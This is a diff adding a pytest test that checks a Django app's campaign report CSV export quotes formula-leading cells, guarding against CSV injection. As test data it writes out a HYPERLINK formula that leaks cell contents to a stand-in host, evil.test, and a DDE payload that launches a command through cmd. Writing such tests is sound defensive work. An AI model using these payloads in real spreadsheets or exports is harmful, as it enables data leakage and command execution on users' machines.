@@ -1,0 +1,46 @@
+"""Exports a compliance officer opens in a spreadsheet or hands to an auditor.
+
+README, Admins and compliance: exports are "CSV (cells starting with `= + - @`, tab or CR are
+quoted, against CSV injection)"; DESIGN: "CSV safe for spreadsheets". The campaign report is
+a second CSV writer that does not use audit.export.safe_cell."""
+
+from __future__ import annotations
+
+import csv
+import io
+from datetime import timedelta
+
+import pytest
+from django.test import Client
+from django.utils import timezone
+
+from governance.actors import Actor
+from governance.models import CampaignItem
+from governance.services import campaign_create, campaign_item_decide
+from tests.approvals.conftest import make_user
+
+pytestmark = pytest.mark.django_db
+
+FORMULA = '=HYPERLINK("https://evil.test/?leak="&A1,"click")'
+
+
+def test_the_campaign_report_csv_quotes_formula_cells(demo) -> None:
+    carol = make_user("carol", "compliance")
+    actor = Actor.for_user(carol)
+    campaign = campaign_create(
+        name=FORMULA,
+        scope="all",
+        scope_value="",
+        deadline=timezone.now() + timedelta(days=7),
+        overdue_policy="suspend",
+        actor=actor,
+    )
+    item = CampaignItem.objects.filter(campaign=campaign).first()
+    campaign_item_decide(item=item, actor=actor, decision="certify", note="@SUM(1+1)*cmd|' /C calc'!A0")
+    client = Client()
+    client.force_login(carol)
+    response = client.get(f"/campaigns/{campaign.pk}/report.csv")
+    assert response.status_code == 200
+    cells = [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]
+    dangerous = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert not dangerous, dangerous
